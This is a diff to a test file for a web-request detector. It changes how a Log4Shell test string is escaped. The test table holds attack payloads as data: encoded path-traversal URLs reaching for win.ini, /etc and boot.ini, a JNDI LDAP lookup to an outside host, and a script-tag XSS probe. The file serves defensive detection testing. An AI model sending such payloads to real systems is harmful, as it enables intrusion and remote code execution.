@@ -71,7 +71,7 @@ describe('starter pack', () => {
     ['/download?file=%2e%2e%2f%2e%2e%2fwin.ini', 'Path Traversal Attempt in the URL'],
     ['/static/..%252f..%252fetc', 'Path Traversal Attempt in the URL'],
     ['/static/%2E%2E%5C%2E%2E%5Cboot.ini', 'Path Traversal Attempt in the URL'],
-    ['/search?q=${jndi:ldap://203.0.113.9/a}', 'JNDI Lookup (Log4Shell) in a Request'],
+    [`/search?q=${'$'}{jndi:ldap://203.0.113.9/a}`, 'JNDI Lookup (Log4Shell) in a Request'],
     ['/search?q=%3Cscript%3Ealert(1)%3C/script%3E', 'Cross-Site Scripting Probe in the Query'],
   ])('flags %s', (url, title) => {
     expect(titles(access(url))).toContain(title);
